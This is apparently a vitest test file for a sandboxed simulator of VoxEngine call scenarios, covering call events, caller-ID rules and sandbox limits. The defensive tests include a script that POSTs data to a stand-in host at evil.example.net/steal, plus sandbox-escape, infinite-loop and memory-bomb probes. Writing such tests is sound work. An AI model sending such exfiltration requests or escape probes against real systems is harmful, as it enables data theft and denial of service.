import { describe, expect, it } from "vitest";
import { seededRandom } from "@/lib/core/random";
import { checkScript, effectiveLimits, runScenarios } from "./runtime";
import type { CallSetup, ScenarioEvent, ScenarioRun, SimulatedParty } from "./runtime-contract";
import { MAX_LIMITS, callerIdKey, callerIdPasses, planLeg, sayDuration, simulateHttp } from "./simulation";
import { DEMO_SCENARIO } from "./demo-scenario";
import { inboundCall, testParty as party } from "./runtime-fixtures";

const inbound = inboundCall;
const outbound = (p: Partial<SimulatedParty> = {}, extra: Partial<CallSetup> = {}): CallSetup => ({ ...inbound(p, extra), direction: "outbound", ...extra });

const run = (script: string, call: CallSetup = inbound(), limits = {}) =>
  runScenarios([{ name: "main", script }], call, { random: seededRandom(7), limits });

const strip = (r: ScenarioRun) => r.events.map((e) => ({ ...e }));
const last = (r: ScenarioRun) => r.events.at(-1) as Extract<ScenarioEvent, { type: "hangup" }>;

function expectWellFormed(r: ScenarioRun) {
  expect(last(r).type).toBe("hangup");
  expect(r.events.filter((e) => e.type === "hangup")).toHaveLength(1);
  for (let i = 1; i < r.events.length; i++) expect(r.events[i]!.at).toBeGreaterThanOrEqual(r.events[i - 1]!.at);
  expect(r.durationSeconds).toBe(last(r).at);
}

const GREETER = `
VoxEngine.addEventListener(AppEvents.CallAlerting, (e) => {
  e.call.addEventListener(CallEvents.Connected, () => e.call.say("Hello and welcome to the demo"));
  e.call.addEventListener(CallEvents.PlaybackFinished, () => { e.call.hangup(); VoxEngine.terminate(); });
  e.call.answer();
});`;

describe("the sandbox runs the VoxEngine subset on a simulated clock", () => {
  it("answer, say, PlaybackFinished, hangup: events in time order ending with the scenario's hangup", async () => {
    const r = await run(GREETER);
    expectWellFormed(r);
    expect(r.outcome).toBe("completed");
    expect(strip(r)).toEqual([
      { at: 0, type: "answer" },
      { at: 0, type: "say", text: "Hello and welcome to the demo", seconds: 2.4 },
      { at: 2.4, type: "hangup", by: "scenario", reason: "scenario" },
    ]);
    expect(r.durationSeconds).toBe(2.4);
  });

  it("the demo's sales scenario answers, greets, records a 10 s message, says goodbye and hangs up", async () => {
    const r = await run(DEMO_SCENARIO.script);
    expectWellFormed(r);
    expect(r.outcome).toBe("completed");
    expect(r.events.map((e) => e.type)).toEqual(["answer", "log", "say", "record_start", "record_stop", "say", "hangup"]);
    const start = r.events.find((e) => e.type === "record_start")!;
    const stop = r.events.find((e) => e.type === "record_stop")!;
    expect(stop.at - start.at).toBe(10);
    expect(last(r)).toMatchObject({ by: "scenario" });
    expect(await checkScript(DEMO_SCENARIO.script)).toBeNull();
  });

  it("say takes words / 2.5 seconds (at least 0.5 s); a new say interrupts the one playing", async () => {
    expect(sayDuration("Hello there")).toBe(0.8);
    expect(sayDuration("Hi")).toBe(0.5);
    const r = await run(`
      VoxEngine.addEventListener(AppEvents.CallAlerting, (e) => {
        e.call.answer();
        e.call.say("one two three four five six seven eight nine ten");
        setTimeout(() => e.call.say("stop"), 1000);
        e.call.addEventListener(CallEvents.PlaybackFinished, VoxEngine.terminate);
      });`);
    expect(r.events.filter((e) => e.type === "say")).toEqual([
      { at: 0, type: "say", text: "one two three four five six seven eight nine ten", seconds: 1 },
      { at: 1, type: "say", text: "stop", seconds: 0.5 },
    ]);
    expect(r.durationSeconds).toBe(1.5);
  });

  it("startPlayback lasts 5 s; a looped playback runs until stopPlayback", async () => {
    const r = await run(`
      VoxEngine.addEventListener(AppEvents.CallAlerting, (e) => {
        e.call.answer();
        e.call.startPlayback("https://cdn.example.com/hold.mp3");
        e.call.addEventListener(CallEvents.PlaybackFinished, () => {
          e.call.startPlayback("https://cdn.example.com/loop.mp3", { loop: true });
          setTimeout(() => { e.call.stopPlayback(); VoxEngine.terminate(); }, 7500);
        });
      });`);
    expect(r.events.filter((e) => e.type === "play")).toEqual([
      { at: 0, type: "play", url: "https://cdn.example.com/hold.mp3", seconds: 5 },
      { at: 5, type: "play", url: "https://cdn.example.com/loop.mp3", seconds: 7.5 },
    ]);
    expect(r.durationSeconds).toBe(12.5);
  });

  it("record / stopRecording with RecordStarted and its url; a recording still running stops at the hangup", async () => {
    const r = await run(`
      VoxEngine.addEventListener(AppEvents.CallAlerting, (e) => {
        e.call.answer();
        e.call.addEventListener(CallEvents.RecordStarted, (ev) => Logger.write("recording " + ev.url));
        e.call.record({ name: "message" });
        setTimeout(() => { e.call.stopRecording(); e.call.record({}); }, 4000);
        setTimeout(() => VoxEngine.terminate(), 6000);
      });`);
    expect(strip(r)).toEqual([
      { at: 0, type: "answer" },
      { at: 0, type: "record_start", name: "message" },
      { at: 0, type: "log", line: "recording record://message" },
      { at: 4, type: "record_stop", name: "message" },
      { at: 4, type: "record_start", name: "record-2" },
      { at: 4, type: "log", line: "recording record://record-2" },
      { at: 6, type: "record_stop", name: "record-2" },
      { at: 6, type: "hangup", by: "scenario", reason: "scenario" },
    ]);
  });

  it("handleTones(true): the party's digits arrive one a second as ToneReceived", async () => {
    const r = await run(
      `
      VoxEngine.addEventListener(AppEvents.CallAlerting, (e) => {
        let got = "";
        e.call.answer();
        e.call.handleTones(true);
        e.call.addEventListener(CallEvents.ToneReceived, (ev) => {
          got += ev.tone;
          if (got.length === 3) { Logger.write("pressed " + got); VoxEngine.terminate(); }
        });
      });`,
      inbound({ dtmf: "42#" }),
    );
    expect(strip(r)).toEqual([
      { at: 0, type: "answer" },
      { at: 1, type: "dtmf", digits: "4" },
      { at: 2, type: "dtmf", digits: "2" },
      { at: 3, type: "dtmf", digits: "#" },
      { at: 3, type: "log", line: "pressed 42#" },
      { at: 3, type: "hangup", by: "scenario", reason: "scenario" },
    ]);
  });

  it("the party hangs up by itself hangupAfterSeconds after the answer: Disconnected, the party's hangup", async () => {
    const r = await run(
      `
      VoxEngine.addEventListener(AppEvents.CallAlerting, (e) => {
        e.call.answer();
        e.call.startPlayback("https://cdn.example.com/music.mp3", { loop: true });
        e.call.addEventListener(CallEvents.Disconnected, () => { Logger.write("gone"); VoxEngine.terminate(); });
      });`,
      inbound({ hangupAfterSeconds: 9 }),
    );
    expectWellFormed(r);
    expect(r.events.find((e) => e.type === "play")).toMatchObject({ seconds: 9 });
    expect(last(r)).toEqual({ at: 9, type: "hangup", by: "party", reason: "party" });
  });

  it("an inbound call the scenario never answers: the caller gives up after the 60 s ring", async () => {
    const r = await run(`VoxEngine.addEventListener(AppEvents.CallAlerting, () => Logger.write("ringing"));`);
    expect(last(r)).toEqual({ at: 60, type: "hangup", by: "party", reason: "no_answer" });
  });

  it("callPSTN + easyProcess: the leg answers after answerAfterSeconds and talks until the party hangs up", async () => {
    const r = await run(
      `
      VoxEngine.addEventListener(AppEvents.CallAlerting, (e) => {
        const out = VoxEngine.callPSTN("+15557654321", "+15550002222");
        VoxEngine.easyProcess(e.call, out);
        out.addEventListener(CallEvents.Disconnected, VoxEngine.terminate);
      });`,
      inbound({ answerAfterSeconds: 4, hangupAfterSeconds: 30 }),
    );
    expectWellFormed(r);
    expect(strip(r)).toEqual([
      { at: 0, type: "forward", to: "+15557654321", kind: "number", answered: true, seconds: 30, callerId: "+15550002222", endAt: 34 },
      { at: 4, type: "answer" },
      { at: 34, type: "hangup", by: "party", reason: "party" },
    ]);
  });

  it("callUser and the deterministic busy rule: a destination ending 0000 fails 486 after 2 s", async () => {
    const r = await run(`
      VoxEngine.addEventListener(AppEvents.CallAlerting, (e) => {
        e.call.answer();
        const a = VoxEngine.callUser({ username: "agent0000", callerid: "+15550002222" });
        a.addEventListener(CallEvents.Failed, (ev) => {
          Logger.write("failed " + ev.code);
          const b = VoxEngine.callUser("alice", "+15550002222");
          VoxEngine.sendMediaBetween(e.call, b);
          b.addEventListener(CallEvents.Connected, () => setTimeout(VoxEngine.terminate, 10000));
        });
      });`);
    expect(strip(r)).toEqual([
      { at: 0, type: "answer" },
      { at: 0, type: "forward", to: "agent0000", kind: "user", answered: false, seconds: 0, callerId: "+15550002222", failure: "busy", endAt: 2 },
      { at: 2, type: "log", line: "failed 486" },
      { at: 2, type: "forward", to: "alice", kind: "user", answered: true, seconds: 10, callerId: "+15550002222", endAt: 15 },
      { at: 15, type: "hangup", by: "scenario", reason: "scenario" },
    ]);
    expect(planLeg("12", "number", party())).toEqual({ result: "invalid", after: 0 });
    expect(planLeg("+15550000000", "number", party()).result).toBe("busy");
    expect(planLeg("+15551234567", "number", party({ answerAfterSeconds: null }))).toEqual({ result: "no_answer", after: 60 });
  });

  it("a leg the scenario hangs up before it fails by itself has no failure; a call without a caller ID has no callerId", async () => {
    const r = await run(
      `
      VoxEngine.addEventListener(AppEvents.Started, () => {
        const call = VoxEngine.callPSTN("+15551230000");
        setTimeout(() => { call.hangup(); VoxEngine.terminate(); }, 1000);
      });`,
      outbound(),
    );
    expect(strip(r)).toEqual([
      { at: 0, type: "forward", to: "+15551230000", kind: "number", answered: false, seconds: 0, endAt: 1 },
      { at: 1, type: "hangup", by: "scenario", reason: "scenario" },
    ]);
  });

  it("caller IDs: with the caller IDs allowed given, a PSTN leg presenting another number, or none, fails at once 403 Forbidden; a callUser leg is not checked", async () => {
    const r = await run(
      `
      VoxEngine.addEventListener(AppEvents.Started, () => {
        const tries = [["+15551234567", "+15550009999"], ["+15551234568"], ["+15551234569", " 1 (415) 555-0100 "]];
        const next = () => {
          const [to, from] = tries.shift();
          const call = VoxEngine.callPSTN(to, from);
          call.addEventListener(CallEvents.Failed, (e) => { Logger.write(to + " " + e.code + " " + e.reason); next(); });
          call.addEventListener(CallEvents.Connected, () => {
            const agent = VoxEngine.callUser("alice", "+15550009999");
            agent.addEventListener(CallEvents.Connected, () => VoxEngine.terminate());
          });
        };
        next();
      });`,
      outbound({ answerAfterSeconds: 1 }, { callerIds: { allowed: ["+14155550100"] } }),
    );
    expect(strip(r)).toEqual([
      { at: 0, type: "forward", to: "+15551234567", kind: "number", answered: false, seconds: 0, callerId: "+15550009999", failure: "forbidden", endAt: 0 },
      { at: 0, type: "log", line: "+15551234567 403 Forbidden" },
      { at: 0, type: "forward", to: "+15551234568", kind: "number", answered: false, seconds: 0, failure: "forbidden", endAt: 0 },
      { at: 0, type: "log", line: "+15551234568 403 Forbidden" },
      // " 1 (415) 555-0100 " is +14155550100, as the platform reads a callerid.
      { at: 0, type: "forward", to: "+15551234569", kind: "number", answered: true, seconds: 1, callerId: "1 (415) 555-0100", endAt: 2 },
      { at: 1, type: "forward", to: "alice", kind: "user", answered: true, seconds: 0, callerId: "+15550009999", endAt: 2 },
      // The fallback that connected is the session's call: the scenario ended it, not the refusals.
      { at: 2, type: "hangup", by: "scenario", reason: "scenario" },
    ]);
    // An invalid destination is refused for that first (404), whatever the caller ID.
    expect(planLeg("12", "number", party(), false)).toEqual({ result: "invalid", after: 0 });
    expect(planLeg("+15551234567", "number", party(), false)).toEqual({ result: "forbidden", after: 0 });
    expect(planLeg("alice", "user", party(), false).result).toBe("answer");
    expect([callerIdPasses(undefined, ""), callerIdPasses({ refused: ["+1555"] }, "+1666"), callerIdPasses({ refused: ["+1555"] }, "+1555"), callerIdPasses({ allowed: ["+1555"] }, "+1666")]).toEqual([true, true, false, false]);
    expect(["+14155550100", "14155550100", "+1 415-555-0100", "", "  ", "Sales", "+0123"].map(callerIdKey)).toEqual(["+14155550100", "+14155550100", "+14155550100", "", "", "", ""]);
  });

  it("an outbound session (Started only): the first callPSTN is the session's call; no answer ends it 408 at 60 s", async () => {
    const r = await run(
      `
      VoxEngine.addEventListener(AppEvents.Started, () => {
        const call = VoxEngine.callPSTN(VoxEngine.customData(), "+15550002222");
        call.addEventListener(CallEvents.Failed, (e) => { Logger.write(e.code + " " + e.reason); VoxEngine.terminate(); });
      });`,
      outbound({ answerAfterSeconds: null }, { customData: "+15551234567" }),
    );
    expect(strip(r)).toEqual([
      { at: 0, type: "forward", to: "+15551234567", kind: "number", answered: false, seconds: 0, callerId: "+15550002222", failure: "no_answer", endAt: 60 },
      { at: 60, type: "log", line: "408 Request Timeout" },
      { at: 60, type: "hangup", by: "runtime", reason: "no_answer" },
    ]);
  });

  it("VoxEngine.customData() reads the session's custom data", async () => {
    const r = await run(`VoxEngine.addEventListener(AppEvents.Started, () => { Logger.write("data=" + VoxEngine.customData()); VoxEngine.terminate(); });`, outbound({}, { customData: "order 42" }));
    expect(r.events[0]).toEqual({ at: 0, type: "log", line: "data=order 42" });
  });

  it("Net.httpRequestAsync answers from the simulated allow-list (0.2 s), other hosts fail -3 like a blocked host", async () => {
    const r = await run(`
      VoxEngine.addEventListener(AppEvents.Started, async () => {
        const a = await Net.httpRequestAsync("https://crm.example.com/customers/+15550001112");
        Logger.write(a.code + " " + JSON.parse(a.text).name);
        const b = await Net.httpRequestAsync("https://evil.example.net/steal", { method: "POST", postData: "x" });
        Logger.write(b.code + " " + b.error);
        VoxEngine.terminate();
      });`);
    expect(strip(r)).toEqual([
      { at: 0, type: "http", url: "https://crm.example.com/customers/+15550001112", method: "GET", status: 200 },
      { at: 0.2, type: "log", line: "200 Alex Doe" },
      { at: 0.2, type: "http", url: "https://evil.example.net/steal", method: "POST", status: -3 },
      { at: 0.4, type: "log", line: "-3 Host not found" },
      { at: 0.4, type: "hangup", by: "scenario", reason: "scenario" },
    ]);
    expect(simulateHttp("not a url", "GET", "").code).toBe(-2);
    expect(simulateHttp("https://httpbin.org/status/503", "GET", "").code).toBe(503);
  });

  it("several scenarios share one sandbox, in order; Math.random comes from the injected random", async () => {
    const r = await runScenarios(
      [
        { name: "lib", script: "var greeting = 'hi from lib'; var n = Math.random();" },
        { name: "main", script: "VoxEngine.addEventListener(AppEvents.Started, () => { Logger.write(greeting + ' ' + (n === 0.25)); VoxEngine.terminate(); });" },
      ],
      outbound(),
      { random: () => 0.25 },
    );
    expect(r.events[0]).toEqual({ at: 0, type: "log", line: "hi from lib true" });
  });

  it("Date follows the simulated clock, not the server's", async () => {
    const r = await runScenarios(
      [{ name: "main", script: "VoxEngine.addEventListener(AppEvents.Started, () => setTimeout(() => { Logger.write(String(Date.now()) + ' ' + new Date().toISOString() + ' ' + new (new Date().constructor)().getTime()); VoxEngine.terminate(); }, 1500));" }],
      outbound(),
      { random: Math.random, startedAt: new Date("2026-01-02T03:04:05Z") },
    );
    const t = Date.parse("2026-01-02T03:04:05Z") + 1500;
    expect(r.events[0]).toEqual({ at: 1.5, type: "log", line: `${t} 2026-01-02T03:04:06.500Z ${t}` });
  });

  it("a scenario that does nothing more ends idle; a call left open ends at the simulated-time cap", async () => {
    const idle = await run(`Logger.write("loaded")`, outbound());
    expect(strip(idle)).toEqual([
      { at: 0, type: "log", line: "loaded" },
      { at: 0, type: "hangup", by: "runtime", reason: "idle" },
    ]);
    const open = await run(`VoxEngine.addEventListener(AppEvents.CallAlerting, (e) => e.call.answer());`, inbound(), { maxSimulatedSeconds: 120 });
    expect(last(open)).toEqual({ at: 120, type: "hangup", by: "runtime", reason: "max_duration" });
    expect(open.outcome).toBe("completed");
  });

  it("errors carry the scenario's name and line number; the run ends with outcome error", async () => {
    const r = await run(`// line 1
VoxEngine.addEventListener(AppEvents.CallAlerting, (e) => {
  e.call.answer();
  e.call.sayy("typo");
});`);
    expectWellFormed(r);
    expect(r.outcome).toBe("error");
    expect(r.error).toMatch(/TypeError: .*not a function.*\(scenario "main", line 4\)/);
    expect(last(r)).toMatchObject({ by: "runtime", reason: "error" });

    const api = await run(`VoxEngine.addEventListener(AppEvents.CallAlerting, (e) => {\n  e.call.say("too early");\n});`);
    expect(api.error).toMatch(/say: the call is not connected.*line 2/);

    const asyncErr = await run(`VoxEngine.addEventListener(AppEvents.Started, async () => {\n  await Net.httpRequestAsync("https://api.example.com/x");\n  throw new Error("boom");\n});`, outbound());
    // A plain Error reads as its message (the finish reason says "Error: the scenario failed: ..."
    // already); a thrown non-error says it was uncaught; an Error without a message keeps its name.
    expect(asyncErr.error).toBe(`boom (scenario "main", line 3)`);
    const thrown = await run(`VoxEngine.addEventListener(AppEvents.Started, () => {\n  throw "boom";\n});`, outbound());
    expect(thrown.error).toBe("Uncaught boom");
    const bare = await run(`VoxEngine.addEventListener(AppEvents.Started, () => {\n  throw new Error();\n});`, outbound());
    expect(bare.error).toBe(`Error (scenario "main", line 2)`);

    const syntax = await run(`let x = 1;\nlet y = ;`);
    expect(syntax.outcome).toBe("error");
    expect(syntax.error).toMatch(/^SyntaxError: .*line 2/);
  });

  it("CallList reports: after require(Modules.CallList), a string or an object's JSON; the callback and the Async promise answer 0.2 s later; the first result or error decides, later ones are marked ignored", async () => {
    const r = await run(
      `require(Modules.CallList);
VoxEngine.addEventListener(AppEvents.Started, async () => {
  CallList.reportProgress("dialling");
  CallList.reportResult({ reached: true, digits: "1" }, (res) => {
    Logger.write("result answered " + res.code);
    CallList.reportError("too late");
  });
  const res = await CallList.reportProgressAsync("after");
  Logger.write("progress answered " + res.code);
  setTimeout(() => VoxEngine.terminate(), 1000);
});`,
      outbound(),
    );
    expectWellFormed(r);
    expect(r.outcome).toBe("completed");
    expect(strip(r)).toEqual([
      { at: 0, type: "list_report", kind: "progress", data: "dialling" },
      { at: 0, type: "list_report", kind: "result", data: '{"reached":true,"digits":"1"}' },
      { at: 0, type: "list_report", kind: "progress", data: "after" },
      { at: 0.2, type: "log", line: "result answered 200" },
      { at: 0.2, type: "list_report", kind: "error", data: "too late", ignored: true },
      { at: 0.2, type: "log", line: "progress answered 200" },
      { at: 1.2, type: "hangup", by: "scenario", reason: "scenario" },
    ]);
  });

  it("CallList refuses a report without require, one neither a string nor an object, one JSON cannot write, and one over 2,000 characters, as the scenario's error", async () => {
    const errorOf = async (body: string) => (await run(`VoxEngine.addEventListener(AppEvents.Started, () => {\n${body}\n});`, outbound())).error;
    expect(await errorOf(`CallList.reportResult("x");`)).toBe(`CallList.reportResult: add require(Modules.CallList) to the scenario first (scenario "main", line 2)`);
    for (const bad of ["undefined", "null", "42", "true"]) {
      expect(await errorOf(`require(Modules.CallList);\nCallList.reportError(${bad});`)).toMatch(/^TypeError: CallList.reportError: pass a string or an object \(scenario "main", line 3\)/);
    }
    expect(await errorOf(`require(Modules.CallList);\nconst o = {}; o.self = o;\nCallList.reportProgress(o);`)).toMatch(/^TypeError: CallList.reportProgress: the object cannot be written as JSON \(.*circular.*\) \(scenario "main", line 4\)/);
    expect(await errorOf(`require(Modules.CallList);\nCallList.reportResultAsync("x".repeat(2001));`)).toMatch(/^RangeError: CallList.reportResultAsync: the report is longer than 2000 characters/);
    const ok = await run(`require(Modules.CallList);\nVoxEngine.addEventListener(AppEvents.Started, () => { CallList.reportResult("x".repeat(2000)); VoxEngine.terminate(); });`, outbound());
    expect(ok.outcome).toBe("completed");
    expect(ok.events[0]).toMatchObject({ type: "list_report", kind: "result" });
  });

  it("checkScript compiles without running and reports the line of a syntax error", async () => {
    expect(await checkScript("while (true) {}")).toBeNull();
    expect(await checkScript("const a = 1;\n\nfunction (", "greeting")).toMatchObject({ name: "SyntaxError", scenario: "greeting", line: 3 });
  });

  it("caller limits are clamped to the maximum", () => {
    expect(effectiveLimits({ wallClockMilliseconds: 1e9, memoryBytes: -1 })).toMatchObject({ wallClockMilliseconds: MAX_LIMITS.wallClockMilliseconds, memoryBytes: 32 * 1024 * 1024 });
  });
});

describe("sandbox limits (threat: a scenario that takes down or reaches into the server)", () => {
  // Threat: denial of service by CPU. An infinite loop must end as "timeout" within its deadline.
  it("an infinite loop ends as timeout within its time limit, even when it tries to catch the interrupt", async () => {
    const t0 = Date.now();
    const r = await run(`VoxEngine.addEventListener(AppEvents.CallAlerting, (e) => { e.call.answer(); while (true) { try { while (true) {} } catch (x) {} } });`, inbound(), { wallClockMilliseconds: 200 });
    expect(Date.now() - t0).toBeLessThan(1500);
    expect(r.outcome).toBe("timeout");
    // The sandbox's own sentence names the scenario (the history says it as it is: lib/domains/calls/plan.ts scenarioStopped).
    expect(r.error).toBe("The scenario ran longer than its 200 ms time limit");
    expectWellFormed(r);
    expect(last(r)).toMatchObject({ by: "runtime", reason: "timeout" });
    const top = await run(`for (;;) {}`, inbound(), { wallClockMilliseconds: 100 });
    expect(top.outcome).toBe("timeout");
  });

  // Threat: denial of service by memory. A memory bomb must end as "memory_limit" without growing the server.
  it("a memory bomb ends as memory_limit", async () => {
    const t0 = Date.now();
    const r = await run(`const big = "x".repeat(1 << 20); const keep = []; while (true) keep.push(big + keep.length);`, inbound(), { memoryBytes: 8 * 1024 * 1024 });
    expect(Date.now() - t0).toBeLessThan(1000);
    expect(r.outcome).toBe("memory_limit");
    expect(r.error).toBe("The scenario used more than its 8 MB of memory");
    expectWellFormed(r);
    const arrays = await run(`VoxEngine.addEventListener(AppEvents.CallAlerting, () => { const a = []; for (;;) a.push(new ArrayBuffer(1 << 20)); });`, inbound(), { memoryBytes: 8 * 1024 * 1024 });
    expect(arrays.outcome).toBe("memory_limit");
  });

  // Threat: native stack exhaustion of the host through deep recursion.
  it("deep recursion ends as an error naming the stack, the server unharmed", async () => {
    const r = await run(`function f(n) { return f(n + 1) + 1; }\nVoxEngine.addEventListener(AppEvents.Started, () => f(0));`, outbound());
    expect(r.outcome).toBe("error");
    expect(r.error).toMatch(/^RangeError: Maximum call stack size exceeded/);
    // And the next run is fine.
    expect((await run(GREETER)).outcome).toBe("completed");
  });

  // Threat: sandbox escape. No host object (process, require, the bridge, Node's globals) reaches a script.
  it("process, require, module, globalThis host objects and the bridge are out of reach", async () => {
    const r = await run(
      `
      let req = "loaded";
      try { require("fs"); } catch (e) { req = e.message; }
      Logger.write(req);
      const seen = [typeof process, typeof exports, typeof module, typeof Buffer, typeof fetch, typeof host, typeof hostFn,
        typeof globalThis.process, typeof setInterval, typeof WebAssembly, typeof std, typeof os];
      let ctor = "none";
      try { ctor = (function(){}).constructor("return typeof process")(); } catch (e) { ctor = "threw"; }
      const names = Object.getOwnPropertyNames(globalThis).filter((n) => !/^[A-Z]/.test(n) || ["VoxEngine","AppEvents","CallEvents","Logger","Net","Modules"].includes(n)).sort();
      Logger.write(seen.join(",") + "|" + ctor + "|" + names.join(","));
      VoxEngine.terminate();`,
      outbound(),
    );
    // require is the prelude's: it knows Modules.SmartQueue and Modules.CallList and nothing of the server.
    expect((r.events[0] as { line: string }).line).toBe("require: the module fs is not available in the simulator (Modules.SmartQueue and Modules.CallList are)");
    const line = (r.events[1] as { line: string }).line;
    const [seen, ctor, names] = line.split("|");
    expect(seen).toBe(Array(12).fill("undefined").join(","));
    expect(ctor).toBe("undefined");
    for (const n of names!.split(",")) expect(["VoxEngine", "AppEvents", "CallEvents", "Logger", "Net", "Modules", "require", "setTimeout", "clearTimeout", "globalThis", "parseInt", "parseFloat", "isNaN", "isFinite", "decodeURI", "decodeURIComponent", "encodeURI", "encodeURIComponent", "escape", "unescape", "eval", "undefined", "NaN", "Infinity", "Date"]).toContain(n);
  });

  // Threat: forged records. What a script sends the host is validated; a script cannot fake a leg or a clock.
  it("a script patching built-ins cannot make the host record nonsense", async () => {
    const r = await run(
      `
      JSON.stringify = () => '{"at":-5}';
      VoxEngine.addEventListener(AppEvents.CallAlerting, (e) => { e.call.answer(); e.call.say("hi"); });`,
      inbound({ hangupAfterSeconds: 5 }),
    );
    expectWellFormed(r);
    for (const e of r.events) {
      expect(e.at).toBeGreaterThanOrEqual(0);
      if ("seconds" in e) expect(e.seconds).toBeGreaterThanOrEqual(0);
    }
  });

  // Threat: unbounded output (a scenario logging forever fills the history).
  it("too many events end the run with an error", async () => {
    const r = await run(`for (let i = 0; ; i++) Logger.write("line " + i);`, inbound(), { wallClockMilliseconds: 3000 });
    expect(r.outcome).toBe("error");
    expect(r.error).toBe("The scenario did too much: more than 2000 events");
    expect(r.events.length).toBeLessThanOrEqual(2001);
    expectWellFormed(r);
  });
});
